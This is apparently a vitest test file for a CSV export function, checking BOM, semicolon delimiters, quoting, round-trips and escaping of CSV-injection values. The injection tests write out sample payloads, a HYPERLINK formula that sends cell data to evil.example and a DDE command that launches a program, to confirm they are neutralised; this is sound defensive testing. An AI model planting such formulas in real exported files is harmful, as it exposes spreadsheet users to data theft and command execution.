import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderCsv } from "../../src/outputs/csv-file.ts";

const decoder = new TextDecoder("utf-8", { ignoreBOM: true });

function readBack(bytes: Uint8Array): string[][] {
  return parse(Buffer.from(bytes), { bom: true, delimiter: ";" });
}

describe("renderCsv", () => {
  const header = ["site_id", "site_name", "address", "samples"];

  it("starts with a UTF-8 BOM, separates with ; and ends every record with CRLF", () => {
    const bytes = renderCsv(header, [["S1", "Egebakken", "Skolevej 1", 12]]);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(decoder.decode(bytes)).toBe(
      "\uFEFFsite_id;site_name;address;samples\r\nS1;Egebakken;Skolevej 1;12\r\n",
    );
  });

  it.each([
    { name: "a ; in an address", value: "Vej 1; st.", quoted: '"Vej 1; st."' },
    { name: "a double quote", value: 'Plejehjem "Solgården"', quoted: '"Plejehjem ""Solgården"""' },
    { name: "a line break", value: "Vej 2\nbaghuset", quoted: '"Vej 2\nbaghuset"' },
    { name: "a lone carriage return", value: "Vej 3\rbaghuset", quoted: '"Vej 3\rbaghuset"' },
  ])("quotes a field holding $name and reads back the same value", ({ value, quoted }) => {
    const rows = [["S1", "Æblehaven", value, 3]] as const;
    const bytes = renderCsv(header, rows);
    const text = decoder.decode(bytes);
    expect(text).toContain(`;${quoted};`);
    // Only the field that needs it is quoted.
    expect(text).toContain("S1;Æblehaven;");
    expect(readBack(bytes)).toEqual([header, ["S1", "Æblehaven", value, "3"]]);
  });

  it("round-trips many rows through csv-parse, numbers written with a . decimal point", () => {
    const rows = [
      ["S0101-NH01", "Plejecenter Østerbro", "Øster Allé 5, 2100 København Ø", 40],
      ["S0825-HC01", "Hjemmeplejen Læsø", "Doktorvejen 2; 9940 Læsø", 0],
      ["S0751-NH02", "", "Åbyhøj", 19.95],
    ] as const;
    const parsed = readBack(renderCsv(header, rows));
    expect(parsed).toEqual([header, ...rows.map((row) => row.map(String))]);
    expect(parsed[3]?.[3]).toBe("19.95");
  });

  it("writes the header alone when there are no rows", () => {
    expect(readBack(renderCsv(header, []))).toEqual([header]);
  });

  it("refuses a row whose width differs from the header", () => {
    expect(() => renderCsv(header, [["S1", "x", "y"]])).toThrow(/row 1 has 3 fields, expected 4/);
  });

  // OWASP CSV injection: a text cell starting with = + - @ TAB or CR gets a leading '.
  it.each([
    {
      name: "a HYPERLINK formula",
      value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      cell: '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    },
    { name: "a DDE command", value: "+cmd|' /C calc'!A0", cell: "'+cmd|' /C calc'!A0" },
    { name: "arithmetic", value: "-1+1", cell: "'-1+1" },
    { name: "an @ function", value: "@SUM(1)", cell: "'@SUM(1)" },
    { name: "a leading tab", value: "\t=1+1", cell: "'\t=1+1" },
    { name: "a leading carriage return", value: "\r=1+1", cell: "'\r=1+1" },
    { name: "a formula character later in the text", value: "Vej 1 = Vej 2", cell: "Vej 1 = Vej 2" },
  ])("escapes a text value holding $name", ({ value, cell }) => {
    const parsed = readBack(renderCsv(header, [["S1", value, "Skolevej 1", 1]]));
    expect(parsed[1]).toEqual(["S1", cell, "Skolevej 1", "1"]);
  });

  it("keeps numbers numeric, negative ones included, and escapes only text", () => {
    const text = decoder.decode(
      renderCsv(header, [
        ["-5", "-", "@", -5],
        ["S2", "x", "y", -0.25],
      ]),
    );
    expect(text).toBe("\uFEFFsite_id;site_name;address;samples\r\n'-5;'-;'@;-5\r\nS2;x;y;-0.25\r\n");
  });

  it("never lets a text cell start a formula, and keeps its content after the quote (property)", () => {
    const startsFormula = /^[=+\-@\t\r]/;
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc
            .constantFrom("=", "+", "-", "@", "\t", "\r")
            .chain((first) => fc.string().map((rest) => first + rest)),
        ),
        (value) => {
          const cell = readBack(renderCsv(["text"], [[value]]))[1]?.[0] ?? "";
          if (startsFormula.test(value)) expect(cell).toBe(`'${value}`);
          else expect(cell).toBe(value);
          expect(startsFormula.test(cell)).toBe(false);
        },
      ),
      { seed: 20201007, numRuns: 300 },
    );
  });
});
